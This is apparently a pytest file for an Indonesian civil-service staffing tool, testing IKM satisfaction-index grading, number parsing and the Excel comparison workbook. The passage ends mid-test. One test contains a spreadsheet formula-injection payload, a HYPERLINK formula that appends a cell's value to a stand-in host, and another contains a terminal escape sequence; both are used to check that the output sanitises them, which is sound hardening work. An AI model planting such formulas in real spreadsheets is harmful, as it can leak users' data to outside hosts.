"""Monitoring indicators (issue 16 item 5): IKM per PermenPANRB 14/2017, before/after per unit beside
the staffing change, units whose staffing improved while service worsened flagged, charts."""

from __future__ import annotations

from datetime import date
from pathlib import Path
from typing import Any

import openpyxl
import pandas as pd
import pytest
from cli_helpers import EXIT_OK, EXIT_USAGE, expect, run, stdout_json

import asn_mutasi as am
from asn_mutasi.rollout.indicators import ikm, ikm_grade, parse_arah, prepare_indicators

TANGGAL = date(2026, 11, 1)


@pytest.mark.parametrize(
    ("konversi", "mutu"),
    [(100.0, "A"), (88.31, "A"), (88.30, "B"), (76.61, "B"), (76.60, "C"), (65.0, "C"), (64.99, "D"), (25.0, "D")],
)
def test_ikm_grades_follow_the_permenpanrb_intervals(konversi: float, mutu: str) -> None:
    assert ikm_grade(konversi)[0] == mutu


def test_ikm_is_the_weighted_mean_of_the_element_averages_times_25() -> None:
    # nine elements; weight 1/9 each
    nrr = [3.2, 3.4, 3.1, 3.9, 3.3, 3.5, 3.6, 3.0, 3.2]
    value = ikm(nrr)
    assert value.nilai_interval == pytest.approx(sum(nrr) / 9, abs=1e-4)
    assert value.nilai_konversi == pytest.approx(sum(nrr) / 9 * 25, abs=0.01)
    assert (value.mutu, value.kinerja) == ("B", "Baik")
    with pytest.raises(ValueError):
        ikm([4.5])


def test_cli_ikm() -> None:
    result = expect(run("indikator", "ikm", "4", "4", "3.6", "-f", "json"), EXIT_OK)
    payload = stdout_json(result)
    assert payload["mutu_pelayanan"] == "A" and payload["nilai_konversi"] == pytest.approx(96.67, abs=0.01)
    assert "3 unsur" in result.stderr and "9 unsur" in result.stderr  # computed, but the count is named
    nine = expect(run("indikator", "ikm", *["3.2"] * 9, "-f", "json"), EXIT_OK)
    assert "unsur" not in nine.stderr
    expect(run("indikator", "ikm", "5"), EXIT_USAGE)


def test_cli_ikm_takes_the_decimal_comma() -> None:
    """`indikator ikm 3,2 3,4 …` (NRR copied from an Indonesian spreadsheet) was refused "Nilai harus berupa angka",
    though the indicator table reads "82,45" (walk5, h28). "3.256", thousands by the number rule, is an NRR's
    decimals (an NRR is never above 4); a word is still refused, in Indonesian."""
    comma = ["3,2", "3,4", "3,1", "3,9", "3,3", "3,5", "3,6", "3,0", "3,2"]
    got = stdout_json(expect(run("indikator", "ikm", *comma, "-f", "json"), EXIT_OK))
    dot = stdout_json(expect(run("indikator", "ikm", *[v.replace(",", ".") for v in comma], "-f", "json"), EXIT_OK))
    assert got == dot and (got["nilai_konversi"], got["mutu_pelayanan"]) == (pytest.approx(83.89, abs=0.01), "B")
    three = stdout_json(expect(run("indikator", "ikm", "3.256", "3,256", "-f", "json"), EXIT_OK))
    assert three["nilai_interval"] == pytest.approx(3.256, abs=1e-4)
    refused = expect(run("indikator", "ikm", "3,2", "tinggi"), EXIT_USAGE)
    assert "'tinggi' bukan angka" in " ".join(refused.stderr.split())


def test_arah_words_and_defaults() -> None:
    assert parse_arah("Naik Baik", "IKM") == "naik baik"
    assert parse_arah("turun", "x") == "turun baik"
    assert parse_arah(None, "Jumlah Pengaduan") == "turun baik"
    assert parse_arah("", "Capaian Kinerja") == "naik baik"
    assert parse_arah("kadang", "x") is None


def test_bad_indicator_rows_are_excluded_with_a_finding_naming_the_row() -> None:
    raw = pd.DataFrame(
        {
            "_baris": [2, 3, 4],
            "unit_kerja": ["Dinas A", "", "Dinas B"],
            "periode": [2025.0, "2026", "2026"],
            "indikator": ["IKM", "IKM", "IKM"],
            "nilai": ["80,5", "81", "tinggi"],
            "arah": ["naik baik", "naik baik", "naik baik"],
        }
    )
    table = prepare_indicators(raw, source="ind.csv")
    assert list(table.frame["periode"]) == ["2025"] and table.frame["nilai"].iloc[0] == 80.5
    assert [(f.location.row, f.code) for f in table.findings] == [
        (3, "indikator-tidak-valid"),
        (4, "indikator-tidak-valid"),
    ]
    assert (
        "Unit Kerja (unit_kerja) kosong" in table.findings[0].message
        and "nilai bukan angka" in table.findings[1].message
    )


def test_indicator_values_are_read_as_the_rest_of_the_package_reads_numbers() -> None:
    """ "1.234" complaints were read as 1.234 beside "82,45" read with a decimal comma: a rise from 39 to 1,234 was
    called an improvement (walk5, h28). Indonesian text: "1.234" is thousands (as workload.abk.parse_number)."""
    raw = pd.DataFrame(
        {
            "unit_kerja": ["BKPSDM"] * 7,
            "periode": ["2025", "2026", "2025", "2026", "2025", "2026", "2027"],
            "indikator": ["Jumlah Pengaduan", "Jumlah Pengaduan", "IKM", "IKM", "Capaian", "Capaian", "Capaian"],
            "nilai": [39, "1.234", "82,45", "82.45", "95%", "1.250,5", " 97,5 % "],
            "arah": ["turun baik", "turun baik", "naik baik", "naik baik", "naik baik", "naik baik", "naik baik"],
        }
    )
    table = prepare_indicators(raw, source="ind.xlsx")
    assert table.findings == []
    assert table.frame["nilai"].tolist() == [39.0, 1234.0, 82.45, 82.45, 95.0, 1250.5, 97.5]


def test_dot_decimal_indicator_values_are_decimals_and_named() -> None:
    """A web app's dot-decimal export: "80.125" beside "82.75" was read as 80,125 and the falling IKM called
    "membaik"; "1.500" days beside "2.25" as 1,500 (hostile9 #1, h28). The roster reader's column rule, per
    indicator: complaints "1.234" beside integers stay thousands."""
    raw = pd.DataFrame(
        {
            "unit_kerja": ["Dinkes", "Dinkes", "Disdukcapil", "Disdukcapil", "Dinsos", "Dinsos", "BKPSDM", "BKPSDM"],
            "periode": ["2025", "2026"] * 4,
            "indikator": [*["Nilai IKM"] * 2, *["Waktu layanan (hari)"] * 2, *["nilai ikm"] * 2, *["Pengaduan"] * 2],
            "nilai": ["82.75", "80.125", "2.25", "1.500", "78.5", "79.000%", 39, "1.234"],
            "arah": [*["naik baik"] * 2, *["turun baik"] * 2, *["naik baik"] * 2, *["turun baik"] * 2],
        }
    )
    table = prepare_indicators(raw, source="ind.csv")
    assert table.frame["nilai"].tolist() == [82.75, 80.125, 2.25, 1.5, 78.5, 79.0, 39.0, 1234.0]
    said = [(f.code, f.location.row, f.location.value) for f in table.findings]
    assert said == [
        ("angka-titik-desimal", 3, "80.125"),
        ("angka-titik-desimal", 5, "1.500"),
        ("angka-titik-desimal", 7, "79.000%"),
    ]
    assert "mis. '82.75'" in table.findings[0].message and "mis. '2.25'" in table.findings[1].message


def test_indicator_values_outside_their_range_and_non_numbers_are_named() -> None:
    """An IKM of 80125 (a decimal read as thousands, no dot-decimal neighbour) cannot be an IKM (1–100) (hostile9 #1,
    h28): it was excluded; now the decimal reading, the only one inside the range, is taken and named (review10 #2,
    h29: this test expected the exclusion). "180.125", neither of whose readings is an IKM, is excluded naming both;
    a value that is no number is quoted ("−5", "(12)")."""
    raw = pd.DataFrame(
        {
            "unit_kerja": ["Dinkes", "Dinkes", "Dinsos", "Dinsos", "BKPSDM", "RSUD"],
            "periode": ["2025", "2026", "2025", "2026", "2026", "2026"],
            "indikator": ["IKM", "IKM", "Indeks Kepuasan Masyarakat", "Indeks Kepuasan Masyarakat", "Pengaduan", "IKM"],
            "nilai": ["80", "80.125", 3.25, 0.5, "\u22125", "180.125"],
            "arah": ["naik baik"] * 4 + ["turun baik", "naik baik"],
        }
    )
    table = prepare_indicators(raw, source="ind.csv")
    assert table.frame["nilai"].tolist() == [80.0, 80.125, 3.25]
    said = [(f.code, f.location.row) for f in table.findings]
    assert said == [("indikator-titik-desimal", 3), *[("indikator-tidak-valid", r) for r in (5, 6, 7)]]
    messages = [f.message for f in table.findings]
    assert "mis. '80.125' dibaca 80,125, bukan 80125" in messages[0]
    assert "nilai '0.5' dibaca 0,5, di luar rentang IKM" in messages[1]
    assert "nilai bukan angka ('\u22125')" in messages[2]
    assert (
        "nilai '180.125' dibaca 180125 (ribuan) atau 180,125 (desimal), keduanya di luar rentang IKM 1–100"
        in (messages[3])
    )


def test_three_decimal_indicator_values_take_the_reading_their_range_or_percent_sign_allows() -> None:
    """A dot-decimal web-app export with no one- or two-decimal sibling: the IKM interval values "3.069" … (three
    decimals, as the PermenPANRB 14/2017 worked example writes them) were all refused as 3069, and "85.125%" kept
    silently as 85125 (review10 #2, h29). A "%" value is never thousands; an IKM takes the reading inside 1–100 (as
    parse_nrr does); each is named once per indicator. Complaints "1.234" and visits "2.500" (no range, no "%") stay
    thousands."""
    indicators = [
        *["Nilai IKM (interval)"] * 3,
        *["Capaian Kinerja"] * 3,
        *["Jumlah Pengaduan"] * 2,
        *["Jumlah Kunjungan"] * 2,
    ]
    raw = pd.DataFrame(
        {
            "unit_kerja": ["Dinkes", "RSUD", "Dinsos", "Dinkes", "RSUD", "Dinsos", "Dinkes", "RSUD", "Dinkes", "RSUD"],
            "periode": ["2025"] * 10,
            "indikator": indicators,
            "nilai": ["3.069", "2.981", "3.310", "85.125%", "90.500 %", "1.500%", "1.234", "987", "2.500", "1.750"],
            "arah": ["naik baik"] * 6 + ["turun baik"] * 2 + ["naik baik"] * 2,
        }
    )
    table = prepare_indicators(raw, source="ind.csv")
    assert table.frame["nilai"].tolist() == [3.069, 2.981, 3.31, 85.125, 90.5, 1.5, 1234.0, 987.0, 2500.0, 1750.0]
    said = [(f.code, f.location.row, f.location.value) for f in table.findings]
    assert said == [("indikator-titik-desimal", 2, "3.069"), ("indikator-titik-desimal", 5, "85.125%")]
    ikm, percent = (f.message for f in table.findings)
    assert ikm.startswith("3 nilai indikator 'Nilai IKM (interval)'")
    assert "'3.069' dibaca 3,069, bukan 3069" in ikm and "rentang IKM 1–100" in ikm
    assert "'85.125%' dibaca 85,125, bukan 85125" in percent and "persentase" in percent


@pytest.fixture(scope="module")
def rounds(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """A small sample, its plan applied (every move approved): the roster before and after."""
    folder = tmp_path_factory.mktemp("evaluasi")
    sample = am.make_sample(output=folder / "data", pegawai=300, seed=11)
    names = {p.name: p for p in sample.files}
    pegawai, jabatan = names["pegawai.csv"], names["peta_jabatan.xlsx"]
    plan = am.plan(pegawai=pegawai, jabatan=jabatan, output=folder / "rencana.xlsx", tanggal=TANGGAL)
    wb = openpyxl.load_workbook(folder / "rencana.xlsx")
    ws = wb["Rencana Mutasi"]
    col = [c.value for c in ws[1]].index("Keputusan") + 1
    for r in range(2, ws.max_row + 1):
        ws.cell(r, col, "Setuju")
    wb.save(folder / "disetujui.xlsx")
    applied = am.apply(
        rencana=folder / "disetujui.xlsx",
        pegawai=pegawai,
        tmt=date(2027, 1, 1),
        output=folder / "sesudah.csv",
        tanggal=TANGGAL,
    )
    assert applied.ok and len(plan.plan.moves)
    return {"folder": folder, "sebelum": pegawai, "sesudah": folder / "sesudah.csv", "jabatan": jabatan}


def _indicator_file(path: Path, rows: list[tuple[str, str, str, float, str]]) -> Path:
    pd.DataFrame(rows, columns=["Unit Kerja", "Periode", "Indikator", "Nilai", "Arah"]).to_csv(
        path, index=False, sep=";"
    )
    return path


def test_compare_shows_indicators_beside_staffing_and_flags_service_worsening(
    rounds: dict[str, Any], tmp_path: Path
) -> None:
    base = am.compare(sebelum=rounds["sebelum"], sesudah=rounds["sesudah"], jabatan=rounds["jabatan"], tanggal=TANGGAL)
    units = base.comparison.units
    better = units[units["lowongan_sesudah"] < units["lowongan_sebelum"]]["unit_kerja"].tolist()
    same = units[units["lowongan_sesudah"] == units["lowongan_sebelum"]]["unit_kerja"].tolist()
    assert better and same, "the applied sample plan fills no vacancy"
    rows = [
        (better[0], "2025", "Jumlah Pengaduan", 10, "turun baik"),
        (better[0], "2026", "Jumlah Pengaduan", 14, "turun baik"),  # worse although staffing improved
        (better[0], "2025", "IKM", 78.0, "naik baik"),
        (better[0], "2026", "IKM", 82.5, "naik baik"),
        (same[0], "2025", "Jumlah Pengaduan", 5, "turun baik"),
        (same[0], "2026", "Jumlah Pengaduan", 9, "turun baik"),  # worse, but staffing did not improve
    ]
    ind = _indicator_file(tmp_path / "indikator.csv", rows)
    out = tmp_path / "perbandingan.xlsx"
    result = am.compare(
        sebelum=rounds["sebelum"],
        sesudah=rounds["sesudah"],
        jabatan=rounds["jabatan"],
        indikator=ind,
        output=out,
        tanggal=TANGGAL,
    )
    assert result.indicators is not None
    table = result.indicators.table.set_index(["unit_kerja", "indikator"])
    flagged = table[table["perlu_perhatian"]].index.tolist()
    assert flagged == [(better[0], "Jumlah Pengaduan")]
    assert table.loc[(better[0], "IKM"), "layanan"] == "membaik" and table.loc[(better[0], "IKM"), "selisih"] == 4.5
    assert [f.code for f in result.findings] == ["layanan-memburuk"] and better[0] in result.findings[0].message
    where = result.findings[0].location  # the indicator file's row of the "after" value (it named none)
    assert where.file is not None and where.file.endswith("indikator.csv") and where.row == 3
    assert table.loc[(better[0], "Jumlah Pengaduan"), "tren"] == "2025: 10; 2026: 14"
    payload = result.to_json()
    assert len(payload["indikator"]) == 3 and payload["temuan"][0]["kode"] == "layanan-memburuk"
    wb = openpyxl.load_workbook(out)
    assert "Indikator Layanan" in wb.sheetnames and "Per Unit" in wb.sheetnames
    assert len(wb["Indikator Layanan (Grafik)"]._charts) == 2  # one chart per indicator

    cli = stdout_json(
        expect(
            run(
                "compare",
                rounds["sebelum"],
                rounds["sesudah"],
                rounds["jabatan"],
                "--indikator",
                ind,
                "-f",
                "json",
                "--tanggal",
                "2026-11-01",
            ),
            EXIT_OK,
        )
    )
    assert cli == am.to_jsonable(payload)


def test_indicator_template_lists_every_unit_indicator_and_period(rounds: dict[str, Any], tmp_path: Path) -> None:
    out = tmp_path / "indikator.xlsx"
    expect(run("indikator", "templat", rounds["jabatan"], "-o", out, "--periode", "2025", "--periode", "2026"), EXIT_OK)
    ws = openpyxl.load_workbook(out)["Indikator"]
    rows = list(ws.iter_rows(min_row=2, values_only=True))
    assert [c.value for c in ws[1]] == ["Unit Kerja", "Periode", "Indikator", "Nilai", "Arah"]
    units = {r[0] for r in rows}
    assert len(rows) == len(units) * 4 * 2 and {r[1] for r in rows} == {"2025", "2026"}


def test_indicator_names_from_the_analysts_file_never_become_formulas(rounds: dict[str, Any], tmp_path: Path) -> None:
    """openpyxl takes a text starting with "=" for a formula: the added sheets keep it text (hostile-input
    campaign: a unit named =HYPERLINK(…) became a live link in Indikator Layanan and its chart sheet)."""
    base = am.compare(sebelum=rounds["sebelum"], sesudah=rounds["sesudah"], jabatan=rounds["jabatan"], tanggal=TANGGAL)
    unit = base.comparison.units["unit_kerja"].iloc[0]
    payload = '=HYPERLINK("http://contoh.invalid/"&A1,"klik")'
    rows = [(unit, "2025", payload, 10, "turun baik"), (unit, "2026", payload, 14, "turun baik"),
            (unit, "2025", "=1+1", 1, "naik baik"), (unit, "2026", "=1+1", 2, "naik baik")]  # fmt: skip
    out = tmp_path / "perbandingan.xlsx"
    am.compare(
        sebelum=rounds["sebelum"], sesudah=rounds["sesudah"], jabatan=rounds["jabatan"],
        indikator=_indicator_file(tmp_path / "indikator.csv", rows), output=out, tanggal=TANGGAL,
    )  # fmt: skip
    wb = openpyxl.load_workbook(out)
    for name in ("Indikator Layanan", "Indikator Layanan (Grafik)"):
        cells = [c for row in wb[name].iter_rows() for c in row if c.value is not None]
        assert not [c.coordinate for c in cells if c.data_type == "f"], name
    texts = {c.value for row in wb["Indikator Layanan"].iter_rows() for c in row}
    assert payload in texts and "=1+1" in texts


def test_a_failed_indicator_step_leaves_the_old_workbook(
    rounds: dict[str, Any], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The comparison and its indicator sheets are written in one temporary file (hostile-input campaign: a kill
    between the two steps left a new comparison without its indicators, the old file already replaced)."""
    import asn_mutasi.io.indicator_workbook as iw

    base = am.compare(sebelum=rounds["sebelum"], sesudah=rounds["sesudah"], jabatan=rounds["jabatan"], tanggal=TANGGAL)
    unit = base.comparison.units["unit_kerja"].iloc[0]
    ind = _indicator_file(
        tmp_path / "i.csv", [(unit, "2025", "IKM", 1, "naik baik"), (unit, "2026", "IKM", 2, "naik baik")]
    )
    out = tmp_path / "perbandingan.xlsx"
    out.write_bytes(b"lama")

    def broken(*_args: object, **_kw: object) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(iw, "add_indicator_sheet", broken)
    with pytest.raises(KeyboardInterrupt):
        am.compare(
            sebelum=rounds["sebelum"], sesudah=rounds["sesudah"], jabatan=rounds["jabatan"], indikator=ind,
            output=out, overwrite=True, tanggal=TANGGAL,
        )  # fmt: skip
    assert out.read_bytes() == b"lama"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["i.csv", "perbandingan.xlsx"]


def test_an_indicator_written_on_several_rows_is_named_once() -> None:
    """Three rows of one unit, indicator and period (90, 10, 20, one with the other arah) became 40, "memburuk",
    with no finding."""
    from asn_mutasi.rollout.indicators import prepare_indicators

    raw = pd.DataFrame(
        {
            "_baris": [2, 3, 4, 5],
            "unit_kerja": ["Dinas Kesehatan"] * 4,
            "periode": ["2025", "2026", "2026", "2026"],
            "indikator": ["IKM"] * 4,
            "nilai": [80, 90, 10, 20],
            "arah": ["naik baik", "naik baik", "naik baik", "turun baik"],
        }
    )
    table = prepare_indicators(raw, source="ind.csv")
    found = [f for f in table.findings if f.code == "indikator-ganda"]
    assert len(found) == 1 and found[0].location.row == 4
    assert (
        "(3, 4, 5)" in found[0].message and "menjadi 40" in found[0].message and "arahnya berbeda" in found[0].message
    )


def test_periods_are_compared_in_time_order_and_an_unknown_unit_is_named() -> None:
    """'2025-9', '2025-10', '2025-11' were ordered as text: before 2025-10, after 2025-9, a rising series read
    "memburuk"; a unit that is none of the rosters' was shown with empty staffing and no word (hostile-input campaign)."""
    from asn_mutasi.rollout.indicators import compare_indicators, period_key

    assert sorted(["2025-10", "2025-9", "Okt 2024", "TW IV 2024", "TW II 2024"], key=period_key) == [
        "TW II 2024", "TW IV 2024", "Okt 2024", "2025-9", "2025-10",
    ]  # fmt: skip
    dates = ["31-12-2025", "30-06-2025", "31-03-2025", "30-09-2025"]  # the product's own date format (review)
    assert sorted(dates, key=period_key) == ["31-03-2025", "30-06-2025", "30-09-2025", "31-12-2025"]
    raw = pd.DataFrame(
        {
            "_baris": [2, 3, 4, 5],
            "unit_kerja": ["Dinas Kesehatan"] * 3 + ["Dinas Pendapatn Daerah"],
            "periode": ["2025-9", "2025-10", "2025-11", "2025-9"],
            "indikator": ["Capaian"] * 4,
            "nilai": [1, 2, 3, 5],
            "arah": ["naik baik"] * 4,
        }
    )
    units = pd.DataFrame({"unit_kerja": ["Dinas Kesehatan"], "bezetting_sebelum": [3], "bezetting_sesudah": [4]})
    units["perubahan_bezetting"] = 1
    got = compare_indicators(prepare_indicators(raw, source="ind.csv"), units)
    row = got.table.set_index("unit_kerja").loc["Dinas Kesehatan"]
    assert (row["periode_sebelum"], row["periode_sesudah"], row["layanan"]) == ("2025-9", "2025-11", "membaik")
    assert got.periods == ["2025-9", "2025-10", "2025-11"]
    unknown = [f for f in got.findings if f.code == "indikator-unit-tidak-dikenal"]
    assert [(f.location.value, f.location.file, f.location.row) for f in unknown] == [
        ("Dinas Pendapatn Daerah", "ind.csv", 5)
    ]


def _compared(raw: dict[str, list[object]], units: list[str]) -> Any:
    """``compare_indicators`` of an indicator table (``_baris``, unit, period, indicator, value, direction columns)
    beside units whose bezetting went from 3 to 4."""
    from asn_mutasi.rollout.indicators import compare_indicators

    staff = pd.DataFrame(
        {"unit_kerja": units, "bezetting_sebelum": 3, "bezetting_sesudah": 4, "perubahan_bezetting": 1}
    )
    return compare_indicators(prepare_indicators(pd.DataFrame(raw), source="ind.csv"), staff)


def test_a_worsening_is_located_at_the_after_row_however_its_unit_is_spelled() -> None:
    """The finding named the row of the unit spelled as in its first row: here the "before" row (row 3), not the
    "after" value's row 2, whose unit is written in another case (review of the indicator locations)."""
    raw = {
        "_baris": [2, 3],
        "unit_kerja": ["Dinas Kesehatan", "DINAS  KESEHATAN"],
        "periode": ["2026", "2025"],
        "indikator": ["Jumlah Pengaduan"] * 2,
        "nilai": [14, 10],
        "arah": ["turun baik"] * 2,
    }
    got = _compared(raw, ["Dinas Kesehatan"])
    worse = [f for f in got.findings if f.code == "layanan-memburuk"]
    assert [(f.location.file, f.location.row) for f in worse] == [("ind.csv", 2)]


def test_a_unit_with_one_period_is_not_compared_with_itself() -> None:
    """A unit that reported 2026 only was compared 2026 against 2026 and called 'tetap' (hostile-input campaign)."""
    raw = {
        "_baris": [2, 3, 4],
        "unit_kerja": ["Dinas A", "Dinas A", "Dinas B"],
        "periode": ["2025", "2026", "2026"],
        "indikator": ["IKM"] * 3,
        "nilai": [80, 82, 90],
        "arah": ["naik baik"] * 3,
    }
    table = _compared(raw, ["Dinas A", "Dinas B"]).table.set_index("unit_kerja")
    assert table.loc["Dinas A", "layanan"] == "membaik"
    assert table.loc["Dinas B", "layanan"] == "satu periode" and pd.isna(table.loc["Dinas B", "selisih"])


def test_a_difference_carries_no_float_noise() -> None:
    """The Indikator Layanan sheet showed a Selisih of 9.599999999999994 for 77,7 → 87,3 (walkthrough)."""
    raw = {
        "_baris": [2, 3],
        "unit_kerja": ["Dinas A", "Dinas A"],
        "periode": ["2025", "2026"],
        "indikator": ["Capaian Kinerja (%)"] * 2,
        "nilai": [77.7, 87.3],
        "arah": ["naik baik"] * 2,
    }
    table = _compared(raw, ["Dinas A"]).table
    assert table["selisih"].tolist() == [9.6]


def test_a_control_character_in_the_indicator_table_does_not_end_the_comparison(
    rounds: dict[str, Any], tmp_path: Path
) -> None:
    """A vertical tab or ESC in an indicator or unit name ended ``bandingkan --indikator`` with exit 70 (openpyxl's
    IllegalCharacterError; hostile7, h27): the character is written as a space."""
    base = am.compare(sebelum=rounds["sebelum"], sesudah=rounds["sesudah"], jabatan=rounds["jabatan"], tanggal=TANGGAL)
    unit = base.comparison.units["unit_kerja"].iloc[0]
    rows = [(unit, "2025", "Survei\x0bPegawai", 3, "naik baik"), (unit, "2026", "Survei\x0bPegawai", 4, "naik baik"),
            (unit + "\x1b[2J", "2025", "IKM", 3, "naik baik"), (unit + "\x1b[2J", "2026", "IKM", 4, "naik baik")]  # fmt: skip
    out = tmp_path / "perbandingan.xlsx"
    am.compare(
        sebelum=rounds["sebelum"], sesudah=rounds["sesudah"], jabatan=rounds["jabatan"],
        indikator=_indicator_file(tmp_path / "indikator.csv", rows), output=out, tanggal=TANGGAL,
    )  # fmt: skip
    texts = {c.value for row in openpyxl.load_workbook(out)["Indikator Layanan"].iter_rows() for c in row}
    assert "Survei Pegawai" in texts


def test_the_chart_sheet_prints_each_chart_whole_on_a_portrait_page() -> None:
    """walk5 #9 (h28): the "(Grafik)" sheet had no page setup; each chart was split over about 4 pages and the chart
    data block printed cut ("Badan Kep"). Charts are never cut by a page break; the data block is not printed."""
    import pandas as pd
    from openpyxl import Workbook

    from asn_mutasi.io.indicator_workbook import _charts

    units = [f"Badan Kepegawaian dan Pengembangan Sumber Daya Manusia {k}" for k in range(9)]
    table = pd.DataFrame(
        [
            {"indikator": ind, "unit_kerja": u, "periode_sebelum": "2025", "periode_sesudah": "2026",
             "nilai_sebelum": 80.0, "nilai_sesudah": 82.0}
            for ind in ("IKM", "Jumlah Pengaduan", "Capaian Kinerja", "Waktu Layanan")
            for u in units
        ]
        + [  # 40 units: a chart taller than a page (walk5 had 37)
            {"indikator": "Zona Integritas", "unit_kerja": f"Unit {k}", "periode_sebelum": "2025",
             "periode_sesudah": "2026", "nilai_sebelum": 1.0, "nilai_sesudah": 2.0}
            for k in range(40)
        ]
    )  # fmt: skip
    wb = Workbook()
    _charts(wb, table)
    ws = wb["Indikator Layanan (Grafik)"]
    assert ws.page_setup.orientation == "portrait" and ws.sheet_properties.pageSetUpPr.fitToPage
    assert (ws.page_setup.fitToWidth, ws.page_setup.fitToHeight) == (1, 0)
    assert ws.print_area == "'Indikator Layanan (Grafik)'!$A$1:$J$" + str(ws.print_area.rsplit("$", 1)[1])
    starts = [int(str(c.anchor).lstrip("ABCDEFGHIJ")) for c in ws._charts]  # first row of each chart ("A51")
    ends = [*(s - 1 for s in starts[1:]), int(ws.print_area.rsplit("$", 1)[1])]
    breaks = [b.id for b in ws.row_breaks.brk]  # a break after row id
    assert len(starts) == 5 and breaks, "four charts of 9 units do not fit one page"
    assert not [(s, e, b) for s, e in zip(starts, ends, strict=True) for b in breaks if s <= b < e]
    assert all(e - s + 1 <= 48 for s, e in zip(starts, ends, strict=True))
    assert ws.column_dimensions["AD"].width >= len(units[0])  # the data block's unit names are not cut on screen


def test_signed_three_decimal_values_take_the_same_reading_as_unsigned_ones() -> None:
    """ "3.069%" was read 3,069 and "-3.069%" -3069 in one indicator; "+3.069" under IKM was refused as 3069 beside
    "3.069" read 3,069 (hostile11 #5, h29). The sign changes neither the "%" rule nor the range rule; "-3.069" under
    IKM fits neither reading and is refused naming both."""
    raw = pd.DataFrame(
        {
            "unit_kerja": ["Dinkes"] * 5,
            "periode": ["2025", "2026", "2025", "2026", "2024"],
            "indikator": ["Survei kepuasan pegawai"] * 2 + ["IKM Puskesmas"] * 3,
            "nilai": ["3.069%", "-3.069%", "3.069", "+3.069", "-3.069"],
            "arah": ["naik baik"] * 5,
        }
    )
    table = prepare_indicators(raw, source="ind.csv")
    assert table.frame["nilai"].tolist() == [3.069, -3.069, 3.069, 3.069]
    refused = [f.message for f in table.findings if f.code == "indikator-tidak-valid"]
    assert len(refused) == 1 and "'-3.069' dibaca -3069 (ribuan) atau -3,069 (desimal), keduanya" in refused[0]


def test_a_period_asked_for_that_an_indicator_lacks_is_said_and_written(tmp_path: Path) -> None:
    """--periode-sebelum 2025 with an indicator reported for 2026 only left its verdict empty (pd.NA), and the
    workbook writer crashed (exit 70; hostile11 #5, h29): the row says "periode tidak lengkap"."""
    from asn_mutasi.rollout.indicators import compare_indicators

    raw = pd.DataFrame(
        {
            "unit_kerja": ["Dinas A"] * 3,
            "periode": ["2025", "2026", "2026"],
            "indikator": ["IKM", "IKM", "Survei"],
            "nilai": [80, 82, 3],
            "arah": ["naik baik"] * 3,
        }
    )
    staff = pd.DataFrame({"unit_kerja": ["Dinas A"], "bezetting_sebelum": 3, "bezetting_sesudah": 4})
    staff["perubahan_bezetting"] = 1
    got = compare_indicators(prepare_indicators(raw), staff, sebelum="2025", sesudah="2026").table
    assert got.set_index("indikator")["layanan"].to_dict() == {"IKM": "membaik", "Survei": "periode tidak lengkap"}


def test_values_in_the_trend_and_messages_are_written_the_indonesian_way() -> None:
    """The Tren text said "2026: 1,23457e+06" for "1.234.567,891" (``:g``: scientific notation, six digits, no
    thousands dot; hostile11 #5, h29): it is "1.234.567,891", as every other number. A refused value keeps its digits
    ungrouped beside its cell ("dibaca 1234567,5")."""
    from asn_mutasi.rollout.indicators import compare_indicators

    raw = pd.DataFrame(
        {
            "unit_kerja": ["Dinas A"] * 3,
            "periode": ["2025", "2026", "2026"],
            "indikator": ["Jumlah Pengaduan", "Jumlah Pengaduan", "IKM"],
            "nilai": ["1.234", "1.234.567,891", "1.234.567,5"],
            "arah": ["turun baik"] * 2 + ["naik baik"],
        }
    )
    table = prepare_indicators(raw, source="ind.csv")
    refused = [f.message for f in table.findings if f.code == "indikator-tidak-valid"]
    assert len(refused) == 1 and "dibaca 1234567,5, di luar rentang IKM" in refused[0]
    staff = pd.DataFrame({"unit_kerja": ["Dinas A"], "bezetting_sebelum": 3, "bezetting_sesudah": 4})
    staff["perubahan_bezetting"] = 1
    got = compare_indicators(table, staff)
    assert got.table["tren"].tolist() == ["2025: 1.234; 2026: 1.234.567,891"]
    (worse,) = [f.message for f in got.findings if f.code == "layanan-memburuk"]
    assert "(2025: 1.234 → 2026: 1.234.567,891)" in worse


def test_an_ikm_compared_across_its_two_scales_is_named_and_compared_on_konversi() -> None:
    """IKM 1 (interval scale, 1–4) → 100 (konversi scale, 25–100) was compared as "membaik", selisih 99, without a
    word (hostile11 #5, h29); 3,5 → 80 (87,5 → 80 on one scale) would have been "membaik" too. PermenPANRB 14/2017
    converts interval × 25: the change is taken so, and each such row is named. Values on one scale, and a survey
    that is no IKM, are left alone."""
    raw = {
        "_baris": [2, 3, 4, 5, 6, 7, 8, 9],
        "unit_kerja": ["Dinas A", "Dinas A", "Dinas B", "Dinas B", "Dinas C", "Dinas C", "Dinas D", "Dinas D"],
        "periode": ["2025", "2026"] * 4,
        "indikator": ["IKM"] * 2 + ["Indeks Kepuasan Masyarakat"] * 2 + ["IKM"] * 2 + ["Survei kepuasan pegawai"] * 2,
        "nilai": [1, 100, 3.5, 80, 3.1, 3.2, 3.5, 80],
        "arah": ["naik baik"] * 8,
    }
    got = _compared(raw, ["Dinas A", "Dinas B", "Dinas C", "Dinas D"])
    table = got.table.set_index("unit_kerja")
    assert table[["selisih", "layanan"]].to_dict("index") == {
        "Dinas A": {"selisih": 75.0, "layanan": "membaik"},
        "Dinas B": {"selisih": -7.5, "layanan": "memburuk"},
        "Dinas C": {"selisih": 0.1, "layanan": "membaik"},
        "Dinas D": {"selisih": 76.5, "layanan": "membaik"},
    }
    named = [(f.location.row, f.severity.value) for f in got.findings if f.code == "indikator-skala-ikm-beda"]
    assert named == [(3, "peringatan"), (5, "peringatan")]
    worse = [f for f in got.findings if f.code == "layanan-memburuk"]
    assert [f.location.row for f in worse] == [5]  # Dinas B's staff rose while its IKM fell on one scale


def test_the_indicator_and_round_sheets_look_as_their_sibling_report_sheets(tmp_path: Path) -> None:
    """walk7 (h32): Indikator Layanan and Tren Putaran, added with openpyxl, had plain headers (no fill, bold or border)
    up to 112 pt tall over 10-wide columns, counts without a number format, unit names cut by the next column, and only
    column A frozen: styled, sized and frozen now as the report sheets beside them (header row + the key columns)."""
    from asn_mutasi.io.indicator_workbook import add_indicator_sheet
    from asn_mutasi.io.report_workbook import write_report_workbook
    from asn_mutasi.rollout.indicators import INDICATOR_COLUMNS, IndicatorComparison

    out = tmp_path / "evaluasi.xlsx"
